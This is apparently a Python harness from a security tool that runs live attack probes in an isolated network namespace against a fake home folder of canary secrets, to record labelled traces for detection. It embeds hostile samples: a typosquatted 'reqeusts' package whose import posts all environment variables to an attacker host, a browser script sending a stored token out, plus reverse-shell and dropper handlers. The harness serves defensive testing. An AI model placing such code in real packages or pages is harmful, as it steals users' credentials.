"""Live probes of the scenario library: the harness that runs them safely.

Each scenario of `scenarios.py` has a probe in `datasets/probes/` that really performs it: an
executable pytest test that steals canaries from a fake HOME and sends them to attacker
listeners, plants persistence, runs a dropped payload. The harness makes that safe and
checkable:

- a temporary root holds a fake HOME full of canaries, a fake `site-packages` (on PYTHONPATH,
  so the recorder classes it `${site}`; it holds the typosquatted package), TMPDIR and the loot
  folder, and the probes write nowhere else;
- pytest runs inside `unshare -mn` (a private network and mount namespace; needs root): `lo` is
  the only interface, the attacker, SaaS and metadata addresses are put on it, and `/etc/hosts`
  and `/etc/resolv.conf` are bind-mounted so every attacker name resolves there. Nothing can
  leave the machine even when a probe is buggy;
- listeners (raw TCP sink, HTTP server, reverse-shell handler, UDP sink, DNS server, metadata
  server) store what they receive in the loot folder *before* they acknowledge it, so a probe
  checks its damage synchronously.

    python -m sandhop.datasets.probe [--record DIR] [--keep] [--report FILE] [-- pytest args]

`PROBES` maps every scenario to the node ids of its probe; `agreement()` checks that a live
recording of a probe and the scenario's generator agree on categories, classes and order.
"""

from __future__ import annotations

import argparse
import http.server
import json
import os
import random
import shutil
import socket
import socketserver
import struct
import subprocess
import sys
import tempfile
import threading
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, Mapping, Sequence

from sandhop.datasets import scenarios as sc
from sandhop.enforcement.events import is_secret_env_name

PROBES_DIR = Path(__file__).resolve().parent / "probes"
SUITE = "probes==1"


class ProbeError(RuntimeError):
    """The probes cannot run here, or were asked to run with bad input."""


# --------------------------------------------------------------------------- which test is which

@dataclass(frozen=True)
class Probe:
    test: str    # node id of the test that performs the scenario (or checks its damage)
    events: str  # node id the scenario's events are attributed to (the module for import-time ones)


def _probe(module: str, scenario_id: str) -> Probe:
    node = f"{module}::test_{scenario_id.replace('-', '_')}"
    return Probe(node, node)


_MODULES = {
    "test_exfil.py": ("env-secret-tcp", "ssh-key-http-post", "cloud-creds-http-post", "saas-exfil",
                      "child-python-laundering", "symlink-secret", "proc-environ", "cloud-metadata",
                      "slow-cred-drip", "token-stealer", "tamper-then-steal"),
    "test_dns.py": ("dns-tunnel", "slow-dns-drip", "recon-beacon"),
    "test_persistence.py": ("bashrc-persistence", "pth-persistence", "authorized-keys-backdoor"),
    "test_execution.py": ("reverse-shell", "dropper", "cryptominer", "ctypes-native", "pickle-payload"),
    "test_browser.py": ("browser-token-exfil", "form-jacking", "beacon-exfil"),
    "test_benign.py": ("hn-config-read", "hn-loopback-server", "hn-spawn-git", "hn-spawn-python",
                       "hn-cache-write", "hn-native-lib", "hn-unresolvable-host", "hn-token-to-loopback"),
}
PROBES: dict[str, Probe] = {sid: _probe(module, sid) for module, ids in _MODULES.items() for sid in ids}
# These fire while their module is imported (collected): the events belong to the module's node
# id, phase collect; a test in the module then checks the damage.
PROBES["import-time-payload"] = Probe("test_import_time_payload.py::test_import_time_payload",
                                      "test_import_time_payload.py")
PROBES["collection-time-payload"] = Probe("test_collection_time_payload.py::test_collection_time_payload",
                                          "test_collection_time_payload.py")

# --------------------------------------------------------------------------- the fake machine

HTTP_PORTS = (80, 443, 8080)      # HTTP server (plain HTTP, also on 443): POST sink, stage 2, metadata
SINK_PORTS = (4444, 1337, 9001)   # raw TCP sink
SHELL_PORTS = (31337, 8443)       # reverse-shell handler
UDP_PORT = 53                     # UDP sink on every attacker address (DNS itself is 127.0.0.1:53)
METADATA_IP = "169.254.169.254"
TYPOSQUAT = "reqeusts"
ENV_ROOT, ENV_LOOT, ENV_SITE, ENV_OUTCOMES = ("SANDHOP_PROBE_ROOT", "SANDHOP_PROBE_LOOT", "SANDHOP_PROBE_SITE",
                                             "SANDHOP_PROBE_OUTCOMES")

HOME_FILES = {
    **{f".ssh/{k}": f"-----BEGIN OPENSSH PRIVATE KEY-----\nCANARY-SSH-{k}\n-----END OPENSSH PRIVATE KEY-----\n"
       for k in sc.POOLS["ssh_key"]},
    ".ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOWNER owner@laptop\n",
    ".gitconfig": "[user]\n\tname = Probe Owner\n\temail = owner@example.invalid\n",
    ".config/pip/pip.conf": "[global]\nindex-url = https://CANARY-PIP-CONF@pypi.example.invalid/simple\n",
    **{f".config/{app}/config.toml": f"[tool]\nname = \"{app}\"\nline-length = 100\n" for app in sc.POOLS["app"]},
}
for _template in (*sc.POOLS["cloud_cred"], *sc.POOLS["token_file"], *sc.POOLS["discord_store"]):
    _rel = _template.removeprefix("${home}/")
    HOME_FILES[_rel] = f"CANARY-{_rel.replace('/', '_').replace(' ', '_')}\n"
for _template in sc.POOLS["profile"]:
    HOME_FILES[_template.removeprefix("${home}/")] = "# the owner's shell start-up file\nexport EDITOR=vi\n"
SECRET_ENV = {name: f"CANARY-{name}" for name in (*sc.POOLS["secret_env"], *sc.POOLS["secret_env2"])}

# What the listeners hand out: the dropper's second stage, the reverse shell's command and the
# metadata service's role credentials. Each leaves its marker in the loot folder.
STAGE2 = "#!/bin/sh\necho \"stage 2 ran as uid $(id -u)\" > '{loot}/dropper.marker'\n"
SHELL_COMMAND = "echo reverse-shell-ran > '{loot}/reverse-shell.marker'; exit\n"
# The script a compromised page pulls in (browser-token-exfil): the app's token, to its origin.
BROWSER_PAYLOAD = ("(() => { const origin = new URL(document.currentScript.src).origin;"
                   " fetch(origin + '/collect', {method: 'POST', mode: 'no-cors',"
                   " body: 'token=' + localStorage.getItem('token')}); })();")
METADATA_ROLE = "probe-role"
METADATA_CREDENTIALS = {"Code": "Success", "AccessKeyId": "ASIACANARYPROBE",
                        "SecretAccessKey": "CANARY-IMDS-SECRET", "Token": "CANARY-IMDS-TOKEN"}

TYPOSQUAT_INIT = '''\
"""A typosquat of `requests`: its payload runs when the test module imports it (ctx-style)."""
import http.client
import json
import os

_conn = http.client.HTTPConnection("api.pkg-stats.io", 8080, timeout=10)
_conn.request("POST", "/i", json.dumps(os.environ.copy()))
STORED = _conn.getresponse().read().decode()  # the attacker's receipt: where it kept the loot
_conn.close()


def get(url, **kwargs):
    raise NotImplementedError("not the real requests")
'''


def addresses() -> tuple[str, ...]:
    """Every address the scenarios' pools name, put on `lo` inside the namespace."""
    return (*sc.POOLS["attacker_ip"], *sc.POOLS["saas_ip"], METADATA_IP)


def host_table() -> dict[str, str]:
    """Name -> address for /etc/hosts and the DNS zone: attacker and pool names to attacker
    addresses, each SaaS name to its own pool address."""
    attackers = sc.POOLS["attacker_ip"]
    names = (*sc.POOLS["attacker_domain"], *sc.POOLS["oast_domain"], *sc.POOLS["pool_domain"])
    table = {name: attackers[i % len(attackers)] for i, name in enumerate(names)}
    table.update(zip(sc.POOLS["saas"], sc.POOLS["saas_ip"]))
    return table


def _zone_answer(name: str, table: Mapping[str, str]) -> str | None:
    """Address of a name in the attacker zone: a listed name or any name under one (DNS tunnels)."""
    for zone, ip in table.items():
        if name == zone or name.endswith("." + zone):
            return ip
    return None


# --------------------------------------------------------------------------- running

@dataclass
class ProbeRun:
    rc: int                     # the inner pytest's exit status
    report: dict                # outcomes per node id, DNS names asked, listener notes
    output: str                 # what the inner pytest printed
    root: Path                  # the temporary root (fake HOME, site-packages, TMPDIR, loot)
    kept: bool                  # False: `root` was removed when the run ended
    record: Path | None = None  # the trace root, when recorded
    outcomes: dict[str, str] = field(init=False)

    def __post_init__(self) -> None:
        self.outcomes = self.report.get("outcomes", {})

    @property
    def failed(self) -> list[str]:
        return sorted(t for t, o in self.outcomes.items() if o != "passed")


def can_run() -> str | None:
    """Why the probes cannot run here (None when they can)."""
    if not sys.platform.startswith("linux"):
        return "the probes need Linux network namespaces"
    if os.geteuid() != 0:
        return "the probes need root (to make a private network namespace with `unshare -mn`)"
    missing = [tool for tool in ("unshare", "ip", "mount") if shutil.which(tool) is None]
    if missing:
        return f"the probes need {', '.join(missing)} (util-linux, iproute2)"
    probe = subprocess.run(["unshare", "-mn", "ip", "link", "set", "lo", "up"], capture_output=True, text=True)
    if probe.returncode != 0:
        return f"`unshare -mn` failed here ({probe.stderr.strip() or probe.returncode}); a container needs CAP_SYS_ADMIN"
    return None


def run_probes(record: str | os.PathLike | None = None, pytest_args: Sequence[str] = (), *,
               keep: bool = False, report: str | os.PathLike | None = None, timeout: float = 300) -> ProbeRun:
    """Run every probe (or those `pytest_args` select) inside a fresh namespace and fake HOME.

    With `record`, the run is recorded into that trace root (suite `probes==1`). The temporary
    root is removed afterwards unless `keep`. Raises ProbeError when the probes cannot run here.
    """
    if isinstance(pytest_args, (str, bytes)):
        raise ProbeError(f"pytest_args must be a list of arguments, not the string {pytest_args!r}")
    record_path = Path(record).resolve() if record is not None else None
    if record_path is not None and record_path.exists() and not record_path.is_dir():
        raise ProbeError(f"--record {record_path}: is a file; pass a folder (a trace root)")
    why = can_run()
    if why:
        raise ProbeError(why + "; nothing was run")
    root = Path(tempfile.mkdtemp(prefix="sandhop-probes-")).resolve()
    try:
        spec = _prepare(root, record_path, list(pytest_args), timeout)
        proc = subprocess.run(["unshare", "-mn", sys.executable, "-m", "sandhop.datasets.probe",
                               "--inside", str(spec)], capture_output=True, text=True, timeout=timeout + 60)
        report_path = root / "report.json"
        if not report_path.exists():
            raise ProbeError(f"the namespace launcher wrote no report (exit {proc.returncode}):\n"
                             f"{proc.stdout[-4000:]}\n{proc.stderr[-4000:]}")
        result = json.loads(report_path.read_text())
        result["root"] = str(root)
        if report is not None:
            Path(report).write_text(json.dumps(result, indent=1))
        return ProbeRun(result["rc"], result, proc.stdout + proc.stderr, root, keep, record_path)
    finally:
        if not keep:
            shutil.rmtree(root, ignore_errors=True)


def _prepare(root: Path, record: Path | None, pytest_args: list[str], timeout: float) -> Path:
    """Lay out the temporary root and write the launcher's spec."""
    home, site, tmp, etc = (root / n for n in ("home", "site-packages", "tmp", "etc"))
    loot = tmp / "sandhop-loot"  # under TMPDIR: reading it back is an ordinary tmp read
    for folder in (home / ".cache", site, loot, etc):
        folder.mkdir(parents=True)
    for rel, text in HOME_FILES.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text)
    (home / ".ssh").chmod(0o700)
    for key in sc.POOLS["ssh_key"]:
        (home / ".ssh" / key).chmod(0o600)
    (site / TYPOSQUAT).mkdir()
    (site / TYPOSQUAT / "__init__.py").write_text(TYPOSQUAT_INIT)
    table = host_table()
    # localhost is 127.0.0.1 only: one loopback connect per lookup, not a refused ::1 first
    (etc / "hosts").write_text("127.0.0.1 localhost\n::1 ip6-localhost\n"
                               + "".join(f"{ip} {name}\n" for name, ip in table.items()))
    (etc / "resolv.conf").write_text("nameserver 127.0.0.1\noptions timeout:2 attempts:1\n")

    # The caller's own credentials never reach the probes (they would end up in the loot): only
    # the canaries look like secrets in there. No proxies, no outer pytest's settings.
    env = {k: v for k, v in os.environ.items() if not (is_secret_env_name(k) or k.lower().endswith("_proxy")
                                                       or k.startswith(("SANDHOP_", "PYTEST_")))}
    pythonpath = os.pathsep.join(p for p in (str(site), os.environ.get("PYTHONPATH", "")) if p)
    env.update(SECRET_ENV, HOME=str(home), TMPDIR=str(tmp), PYTHONPATH=pythonpath, PYTHONDONTWRITEBYTECODE="1",
               PYTEST_DISABLE_PLUGIN_AUTOLOAD="1")
    env.update({ENV_ROOT: str(root), ENV_LOOT: str(loot), ENV_SITE: str(site),
                ENV_OUTCOMES: str(tmp / "sandhop-outcomes.jsonl")})
    # The probes run from a copy inside the root: their cwd is ${cwd} in the trace (portable),
    # and nothing the run does can land in the checkout.
    probes = root / "probes"
    shutil.copytree(PROBES_DIR, probes, ignore=shutil.ignore_patterns("__pycache__"))
    # Its own ini file: rootdir and confcutdir are the copy, not the checkout's settings.
    (probes / "pytest.ini").write_text("[pytest]\n")
    args = ["-p", "sandhop.enforcement.plugin", "-p", "sandhop.enforcement.browser", "-p", "no:cacheprovider",
            "-q", "-rfE", "--tb=short"]
    if record is not None:
        args += ["--sandhop-record", str(record), "--sandhop-suite", SUITE]
    # Probes named in the extra args (`test_dns.py`, `test_exfil.py::test_saas_exfil`) replace
    # the default, the whole folder.
    named = any(not a.startswith("-") and (PROBES_DIR / a.split("::")[0]).is_file() for a in pytest_args)
    args += [*pytest_args, *([] if named else ["."])]
    spec = {"root": str(root), "loot": str(loot), "cwd": str(probes), "env": env, "pytest_args": args,
            "addresses": list(addresses()), "hosts": str(etc / "hosts"), "resolv": str(etc / "resolv.conf"),
            "table": table, "timeout": timeout}
    path = root / "spec.json"
    path.write_text(json.dumps(spec))
    return path


# --------------------------------------------------------------------------- inside the namespace

class _Loot:
    """The loot folder: every listener stores what it got here, then acknowledges it."""

    def __init__(self, folder: str) -> None:
        self.folder, self.lock, self.n, self.notes = Path(folder), threading.Lock(), 0, []

    def store(self, kind: str, data: bytes, **note) -> str:
        with self.lock:
            self.n += 1
            name = f"{kind}-{self.n}.bin"
            (self.folder / name).write_bytes(data)
            self.notes.append({"kind": kind, "file": name, "bytes": len(data), **note})
        return name

    def note_dns(self, name: str, qtype: int) -> None:
        with self.lock:
            with open(self.folder / "dns.log", "a") as f:
                f.write(f"{name} {qtype}\n")
            self.notes.append({"kind": "dns", "name": name, "qtype": qtype})


def _read_all(conn: socket.socket) -> bytes:
    chunks = []
    while chunk := conn.recv(65536):
        chunks.append(chunk)
    return b"".join(chunks)


def _dual_stack(port: int, kind: int = socket.SOCK_STREAM) -> socket.socket:
    """One socket on every address of `lo`, IPv4 and IPv6."""
    s = socket.socket(socket.AF_INET6, kind)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", port))
    if kind == socket.SOCK_STREAM:
        s.listen(64)
    return s


def _serve_tcp(server: socket.socket, handle) -> None:
    def one(conn: socket.socket, peer) -> None:
        with conn:
            conn.settimeout(30)  # a probe that never finishes cannot hold a thread forever
            try:
                handle(conn, peer)
            except OSError:
                pass

    while True:
        conn, peer = server.accept()
        threading.Thread(target=one, args=(conn, peer), daemon=True).start()


def _unmapped(address: str) -> str:
    return address.removeprefix("::ffff:")


def _sink(loot: _Loot):
    def handle(conn: socket.socket, peer) -> None:
        local = conn.getsockname()
        data = _read_all(conn)  # the client shuts its side down when it has sent everything
        name = loot.store("tcp", data, address=f"{_unmapped(local[0])}:{local[1]}", peer=_unmapped(peer[0]))
        conn.sendall(f"stored {name}\n".encode())
    return handle


def _shell_handler(loot: _Loot):
    def handle(conn: socket.socket, peer) -> None:
        local = conn.getsockname()
        conn.sendall(SHELL_COMMAND.format(loot=loot.folder).encode())
        transcript = _read_all(conn)  # the shell's prompts and output, until it exits
        loot.store("shell", transcript, address=f"{_unmapped(local[0])}:{local[1]}", peer=_unmapped(peer[0]))
    return handle


def _http_handler(loot: _Loot):
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def _reply(self, body: bytes, status: int = 200, content_type: str = "") -> None:
            self.send_response(status)
            self.send_header("Content-Length", str(len(body)))
            if content_type:
                self.send_header("Content-Type", content_type)
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            local = _unmapped(self.connection.getsockname()[0])
            base = "/latest/meta-data/iam/security-credentials/"
            if local == METADATA_IP and self.path == base:
                return self._reply(METADATA_ROLE.encode())
            if local == METADATA_IP and self.path == base + METADATA_ROLE:
                return self._reply(json.dumps(METADATA_CREDENTIALS).encode())
            if local != METADATA_IP and self.path in sc.POOLS["js_path"]:
                loot.store("http-get", self.path.encode(), address=local, host=self.headers.get("Host", ""))
                return self._reply(BROWSER_PAYLOAD.encode(), content_type="text/javascript")
            if local != METADATA_IP and self.path.startswith("/stage2"):
                loot.store("http-get", self.path.encode(), address=local, host=self.headers.get("Host", ""))
                return self._reply(STAGE2.format(loot=loot.folder).encode())
            self._reply(b"not found\n", 404)

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            name = loot.store("http", body, address=_unmapped(self.connection.getsockname()[0]),
                              host=self.headers.get("Host", ""), path=self.path)
            self._reply(f"stored {name}\n".encode())

        def log_message(self, *args) -> None:  # the loot notes are the log
            pass

    return Handler


class _HTTPServer(socketserver.ThreadingMixIn, http.server.HTTPServer):
    address_family = socket.AF_INET6
    daemon_threads = True

    def server_bind(self) -> None:
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        super().server_bind()


def _udp_sink(sock: socket.socket, loot: _Loot) -> None:
    while True:
        data, peer = sock.recvfrom(65536)
        name = loot.store("udp", data, address=f"{_unmapped(sock.getsockname()[0])}:{UDP_PORT}", peer=peer[0])
        sock.sendto(f"stored {name}\n".encode(), peer)


def _dns_reply(query: bytes, table: Mapping[str, str], loot: _Loot) -> bytes:
    i, labels = 12, []
    while query[i]:
        labels.append(query[i + 1:i + 1 + query[i]].decode("ascii", "replace"))
        i += 1 + query[i]
    name, qtype = ".".join(labels).lower(), struct.unpack("!H", query[i + 1:i + 3])[0]
    loot.note_dns(name, qtype)  # noted before the answer leaves: the probe sees it at once
    question, ip = query[12:i + 5], _zone_answer(name, table)
    answer = b""
    if ip is not None and qtype == 1 and ":" not in ip:
        answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 0, 4) + socket.inet_aton(ip)
    elif ip is not None and qtype == 28 and ":" in ip:
        answer = b"\xc0\x0c" + struct.pack("!HHIH", 28, 1, 0, 16) + socket.inet_pton(socket.AF_INET6, ip)
    flags = 0x8180 if ip is not None else 0x8183  # NOERROR / NXDOMAIN
    return query[:2] + struct.pack("!HHHHH", flags, 1, 1 if answer else 0, 0, 0) + question + answer


def _serve_dns(sock: socket.socket, table: Mapping[str, str], loot: _Loot) -> None:
    while True:
        query, peer = sock.recvfrom(4096)
        try:
            sock.sendto(_dns_reply(query, table, loot), peer)
        except (IndexError, struct.error):  # a malformed query gets no answer
            pass


def _daemon(target, *args) -> None:
    threading.Thread(target=target, args=args, daemon=True).start()


def _inside(spec_path: str) -> int:
    """The namespace side: network, hosts, listeners; then the inner pytest; then the report."""
    interfaces = sorted(name for _index, name in socket.if_nameindex())
    if interfaces != ["lo"]:
        raise ProbeError(f"--inside must run in a fresh network namespace (unshare -mn), not in one with "
                         f"{interfaces}; run `python -m sandhop.datasets.probe` instead")
    spec = json.loads(Path(spec_path).read_text())
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    for address in spec["addresses"]:
        # nodad: an IPv6 address still in duplicate-address detection cannot be bound yet
        v6 = ":" in address
        subprocess.run(["ip", "addr", "add", address + ("/128" if v6 else "/32"), "dev", "lo",
                        *(["nodad"] if v6 else [])], check=True)
    for source, target in ((spec["hosts"], "/etc/hosts"), (spec["resolv"], "/etc/resolv.conf")):
        subprocess.run(["mount", "--bind", source, target], check=True)

    loot = _Loot(spec["loot"])
    for port in SINK_PORTS:
        _daemon(_serve_tcp, _dual_stack(port), _sink(loot))
    for port in SHELL_PORTS:
        _daemon(_serve_tcp, _dual_stack(port), _shell_handler(loot))
    for port in HTTP_PORTS:
        _daemon(_HTTPServer(("::", port), _http_handler(loot)).serve_forever)
    for address in sc.POOLS["attacker_ip"]:
        udp = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind((address, UDP_PORT))
        _daemon(_udp_sink, udp, loot)
    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dns.bind(("127.0.0.1", 53))
    _daemon(_serve_dns, dns, spec["table"], loot)

    outcomes = Path(spec["env"][ENV_OUTCOMES])
    try:
        rc = subprocess.run([sys.executable, "-m", "pytest", *spec["pytest_args"]], cwd=spec["cwd"],
                            env=spec["env"], timeout=spec["timeout"]).returncode
    except subprocess.TimeoutExpired:
        print(f"sandhop probes: the inner pytest ran past {spec['timeout']}s and was stopped", flush=True)
        rc = 124
    report = {"rc": rc, "outcomes": _final_outcomes(outcomes),
              "dns": sorted({n["name"] for n in loot.notes if n["kind"] == "dns"}),
              "listeners": [n for n in loot.notes if n["kind"] != "dns"]}
    (Path(spec["root"]) / "report.json").write_text(json.dumps(report, indent=1))
    return 0


def _final_outcomes(path: Path) -> dict[str, str]:
    """Node id -> passed, failed, error or skipped, from the reports the probes' conftest wrote
    (the same reading as the recorder's: a failed setup or teardown is an error)."""
    outcomes: dict[str, str] = {}
    if not path.exists():
        return outcomes
    for line in path.read_text().splitlines():
        r = json.loads(line)
        if r["outcome"] == "failed":
            outcome = "failed" if r["when"] == "call" else "error"
        elif r["when"] == "call" or r["outcome"] == "skipped":
            outcome = r["outcome"]
        else:
            continue
        if outcomes.get(r["test"]) not in ("failed", "error"):
            outcomes[r["test"]] = outcome
    return outcomes


# --------------------------------------------------------------------------- agreement

@dataclass(frozen=True)
class ExpectedStep:
    index: int
    category: str
    op: str
    classes: frozenset[str]  # every class the generator gives this step
    count: int               # the fewest times the generator emits it
    child: bool


def expected_steps(scenario: sc.Scenario | str, draws: int = 50, seed: int = 0) -> list[ExpectedStep]:
    """The scenario's steps as the generator emits them, with the classes it varies over."""
    s = sc.get(scenario) if isinstance(scenario, str) else scenario
    rng = random.Random(seed)
    classes: dict[int, set[str]] = {i: set() for i in range(len(s.steps))}
    for _ in range(draws):
        for e in sc.generate(s, rng):
            classes[e.seq].add(e.target_class)
    return [ExpectedStep(i, st.category, st.op, frozenset(classes[i]), st.repeat[0], st.child > 0)
            for i, st in enumerate(s.steps)]


def probe_events(rows: Iterable[Mapping], scenario_id: str) -> list[Mapping]:
    """The recorded events of a scenario's probe (rows of a trace), in recorded order."""
    node = PROBES[scenario_id].events
    return sorted((r for r in rows if r["test_id"] == node), key=lambda r: r["seq"])


def agreement(scenario: sc.Scenario | str, events: Sequence[Mapping]) -> list[str]:
    """Problems (empty: none) with `events`, a probe's recording, as the scenario's live twin:
    the generated steps must appear in it in order, with the same category, op and a class the
    generator gives the step (other events may come between; a child step in another process).
    Steps of an unordered group may appear in any order (a browser reports a DOM change and
    requests the script it adds in either order)."""
    return match_steps(scenario, events)[1]


def match_steps(scenario: sc.Scenario | str, events: Sequence[Mapping], *, partial: bool = False
                ) -> tuple[dict[int, list[int]], list[str]]:
    """Where each generated step of the scenario lies in a probe's recording: {step index:
    [event indices]} and the problems (see `agreement`). The learning loop labels a probe's
    live events with it (malicious, and which one is the damaging step); `partial`: the steps
    found before the first missing one, without a problem (an attack the sandbox stopped does
    not get to its later steps)."""
    s = sc.get(scenario) if isinstance(scenario, str) else scenario
    if not events:
        return {}, [f"{s.id}: the probe {PROBES[s.id].events} recorded no events"]
    main_pid = events[0]["pid"]
    groups = {i: g for g in s.unordered for i in g}
    at = group_from = group_to = 0
    where: dict[int, list[int]] = {}
    for step in expected_steps(s):
        group = groups.get(step.index)
        if group is not None and step.index == group[0]:
            group_from = group_to = at  # steps of an unordered group may come in any order
        pos = group_from if group is not None else at
        for n in range(step.count):
            found = next((i for i in range(pos, len(events))
                          if events[i]["category"] == step.category and events[i]["op"] == step.op
                          and events[i]["target_class"] in step.classes
                          and (events[i]["pid"] != main_pid) == step.child), None)
            if found is None:
                if partial:
                    return where, []
                seen = [(e["category"], e["op"], e["target_class"], e["target"][:60]) for e in events[pos:]
                        if e["category"] == step.category]
                return where, [f"{s.id}: step {step.index} ({step.category} {step.op}, class in "
                               f"{sorted(step.classes)}{', in a child' if step.child else ''}; occurrence {n + 1}) "
                               f"is not in the recording after event {pos}; {step.category} events there: {seen}"]
            where.setdefault(step.index, []).append(found)
            pos = found + 1
        if group is None:
            at = pos
        else:
            group_to = max(group_to, pos)
            if step.index == group[-1]:
                at = group_to
    return where, []


# --------------------------------------------------------------------------- command line

def main(argv: Sequence[str] | None = None) -> int:
    argv = list(sys.argv[1:] if argv is None else argv)
    if argv[:1] == ["--inside"]:
        try:
            return _inside(argv[1])
        except ProbeError as exc:
            print(f"sandhop probes: {exc}", file=sys.stderr)
            return 2
    extra: list[str] = []
    if "--" in argv:
        argv, extra = argv[:argv.index("--")], argv[argv.index("--") + 1:]
    parser = argparse.ArgumentParser(prog="sandhop probes",
                                     description="Run the live probes of the scenario library in a private "
                                                 "network namespace with a fake HOME (needs root).")
    parser.add_argument("--record", metavar="DIR", help=f"record the run into this trace root (suite {SUITE})")
    parser.add_argument("--keep", action="store_true", help="keep the temporary root (fake HOME, loot) to inspect")
    parser.add_argument("--report", metavar="FILE", help="write the run's report (outcomes, DNS, loot notes) as JSON")
    args = parser.parse_args(argv)
    try:
        run = run_probes(args.record, extra, keep=args.keep, report=args.report)
    except ProbeError as exc:
        print(f"sandhop probes: {exc}", file=sys.stderr)
        return 2
    print(run.output, end="")
    if run.kept:
        print(f"sandhop probes: kept {run.root}")
    if args.record and run.rc in (0, 1):
        from sandhop.datasets.traces import read_traces
        rows = read_traces(args.record, SUITE).to_pylist()
        newest = max(r["run_id"] for r in rows)  # the trace root may hold earlier runs too
        rows = [r for r in rows if r["run_id"] == newest]
        problems = [p for sid in PROBES if PROBES[sid].test in run.outcomes
                    for p in agreement(sid, probe_events(rows, sid))]
        for problem in problems:
            print(f"sandhop probes: disagreement: {problem}")
        if problems:
            return 1
    return run.rc


if __name__ == "__main__":
    sys.exit(main())
